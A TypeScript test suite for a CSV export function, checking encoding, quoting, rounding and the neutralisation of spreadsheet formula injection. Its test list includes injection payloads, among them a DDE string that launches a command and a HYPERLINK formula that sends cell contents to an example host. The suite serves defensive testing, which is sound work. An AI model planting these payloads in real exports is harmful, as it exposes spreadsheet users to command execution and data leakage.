import * as fc from 'fast-check';
import { writeCsv } from './csv-writer';
import type { Cell } from './table';

const columns = [
  { key: 'rank', header: '名次' },
  { key: 'title', header: '项目名称' },
];
const write = (...rows: Record<string, Cell>[]): string => writeCsv({ sheet: '清单', columns, rows }).toString('utf8');
const cellOf = (title: string): string => {
  const line = write({ title }).slice('\ufeff名次,项目名称\r\n,'.length, -2);
  return line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line;
};

describe('writeCsv', () => {
  it('begins with a byte order mark and ends each line with CRLF', () => {
    expect(write({ rank: 1, title: '新型减速器' })).toBe('\ufeff名次,项目名称\r\n1,新型减速器\r\n');
    expect(writeCsv({ sheet: '清单', columns, rows: [] }).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('quotes commas, quotes and line ends', () => {
    expect(write({ rank: 1, title: 'a,"b"\nc' })).toContain('1,"a,""b""\nc"\r\n');
  });

  it('leaves absent cells empty and numbers numbers, negative ones too', () => {
    expect(write({ rank: -1.5 })).toContain('\r\n-1.5,\r\n');
  });

  it('rounds where a column says so', () => {
    const table = { sheet: 's', columns: [{ key: 'score', header: '得分', decimals: 2 }], rows: [{ score: 0.737198 }] };
    expect(writeCsv(table).toString('utf8')).toBe('\ufeff得分\r\n0.74\r\n');
  });

  it.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\rx',
    '\ttext',
    '  =cmd|" /C calc"!A0',
    '"=1',
    "'=1",
    '“=1”',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '　＝1',
    '﹦1',
    '\u200b=1',
    '\ufeff=1',
    '=HYPERLINK("http://example.org?x="&A1,"看")',
    '−2+3',
  ])('makes %j inert', (attack) => {
    expect(cellOf(attack)).toBe(`'${attack}`);
  });

  it.each(['新型减速器', 'a=b', '1-2', 'e@x', '（-1）', '100%', '"quoted"'])('leaves %j as it is', (text) => {
    expect(cellOf(text)).toBe(text);
  });

  it('never lets a cell begin with what a program computes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(cellOf(text).normalize('NFKC').trimStart()).not.toMatch(/^[=+\-@]/);
      }),
    );
  });
});
